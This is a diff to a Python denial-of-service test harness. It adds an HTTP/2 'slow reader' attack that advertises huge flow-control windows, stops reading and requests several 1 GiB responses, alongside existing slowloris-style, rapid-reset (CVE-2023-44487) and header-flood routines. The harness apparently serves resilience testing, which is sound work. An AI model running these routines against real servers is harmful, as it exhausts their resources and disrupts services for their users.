@@ -20,6 +20,12 @@ PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
 """With an empty SETTINGS frame."""
 HEAD: Final = b"\x82\x86\x04\x02/x\x01\x01a"
 """GET /x of http://a by HPACK without its dynamic table."""
+LARGE_HEAD: Final = b"\x82\x86\x04\x06/large\x01\x01a"
+"""The same for /large."""
+ROOM: Final = 2**30
+"""Bytes that a slow reader of HTTP/2 says it would take: its windows hold nothing back."""
+ANSWERS: Final = 10
+"""That it asks for on one connection."""
 DRIBBLE_SECONDS: Final = 1.0
 RESETS: Final = 100
 """Requests given up in one write."""
@@ -75,6 +81,18 @@ async def slow_reader(streams: Streams) -> None:
     await asyncio.Event().wait()
 
 
+async def slow_reader_http2(streams: Streams) -> None:
+    """The same over HTTP/2: several answers of 1 GiB on a connection, and nothing is taken."""
+    _, writer = streams
+    writer.transport.pause_reading()
+    room = ROOM.to_bytes(4)
+    writer.write(PREFACE + frame(4, 0, 0, b"\0\4" + room) + frame(8, 0, 0, room))
+    for stream in range(1, 2 * ANSWERS, 2):
+        writer.write(frame(1, 5, stream, LARGE_HEAD))
+    done["answers not taken"] += ANSWERS
+    await asyncio.Event().wait()
+
+
 async def rapid_reset(streams: Streams) -> None:
     """Give requests up as fast as they are made (CVE-2023-44487)."""
     reader, writer = streams
@@ -119,6 +137,7 @@ ATTACKS: Final[dict[str, tuple[int, Callable[[Streams], Awaitable[None]]]]] = {
     "slow head": (500, slow_head),
     "slow body": (200, slow_body),
     "slow reader": (200, slow_reader),
+    "slow reader, HTTP/2": (20, slow_reader_http2),
     "rapid reset": (8, rapid_reset),
     "header flood": (8, header_flood),
 }
